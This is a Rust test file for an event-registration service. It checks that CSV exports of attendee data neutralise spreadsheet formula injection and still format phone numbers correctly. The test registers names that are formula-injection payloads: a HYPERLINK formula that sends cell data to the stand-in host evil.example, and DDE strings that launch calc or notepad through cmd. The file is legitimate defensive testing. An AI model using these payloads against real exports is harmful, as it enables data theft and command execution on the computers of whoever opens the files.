//! Safety of what leaves the service: exports that a spreadsheet cannot run, headers
//! that keep personal pages out of caches and browsers on HTTPS, links that stay
//! on-site, and messages that do not tell one organisation about another's sessions.

mod common;

use actix_web::http::StatusCode;
use actix_web::test::TestRequest;
use common::TestApp;
use common::fixtures::{self, in_days};
use common::staff::{self, Browser};
use serde_json::json;

/// Registers through the public JSON API, as anyone on the Internet can.
async fn register_publicly(app: &TestApp, session: i64, body: serde_json::Value) {
    let r = app
        .call(
            TestRequest::post()
                .uri(&format!("/api/v1/sessions/{session}/registrations"))
                .set_json(body),
        )
        .await;
    assert!(r.status.is_success(), "{}", r.text());
}

on_both_backends! {
    async fn exported_names_cannot_run_in_a_spreadsheet_and_phones_still_read_as_phones(app: TestApp) {
        let (event, s) = app.with_conn(|c| {
            let b = fixtures::base(c);
            staff::user(c, "editor@example.org", "editor", Some(b.organisation_id));
            (b.event_id, fixtures::session(c, &b, "Apprivoiser sa tablette", in_days(7), |s| s.capacity = Some(20)))
        });
        let hostile = [
            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", "a@example.org", ""),
            ("+1+cmd|' /C calc'!A0", "b@example.org", "+1 819 555 0100"),
            ("-2+3+cmd|' /C notepad'!A0", "c@example.org", "+1 (450) 555-0000 poste 12"),
            ("@SUM(1+9)*cmd|' /C calc'!A0", "d@example.org", "+33 1 23 45 67 89"),
        ];
        for (name, email, phone) in hostile {
            let mut body = json!({"name": name, "email": email, "consent": true});
            if !phone.is_empty() {
                body["phone"] = json!(phone);
            }
            register_publicly(&app, s, body).await;
        }
        let mut br = Browser::signed_in(&app, "editor@example.org");
        for path in [format!("/admin/sessions/{s}/export.csv"), format!("/admin/events/{event}/export.csv?sep=comma")] {
            let r = br.get(&path).await;
            assert_eq!(r.status, StatusCode::OK, "{path}");
            let text = String::from_utf8(r.body[3..].to_vec()).unwrap();
            let sep = if path.contains("comma") { ',' } else { ';' };
            let rows = parse_csv(&text, sep);
            assert_eq!(rows.len(), 5, "{path}: header and four people");
            for row in &rows[1..] {
                for cell in row {
                    let first = cell.trim_start_matches(' ').chars().next();
                    assert!(
                        !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                        "{path}: a spreadsheet would run {cell:?}"
                    );
                }
            }
            let names: Vec<&str> = rows[1..].iter().map(|r| r[2].as_str()).collect();
            for (name, _, _) in hostile {
                assert!(names.contains(&format!("'{name}").as_str()), "{path}: {name} kept whole behind an apostrophe: {names:?}");
            }
            let phones: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
            assert!(phones.contains(&"819 555-0100"), "{path}: {phones:?}");
            assert!(phones.contains(&"450 555-0000 poste 12"), "{path}: {phones:?}");
            assert!(phones.contains(&"'+33 1 23 45 67 89"), "{path}: {phones:?}");
        }
    }
}

/// A small RFC 4180 reader (quotes, doubled quotes, CRLF rows), independent of the
/// writer under test.
fn parse_csv(text: &str, sep: char) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, c) if c == sep => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}
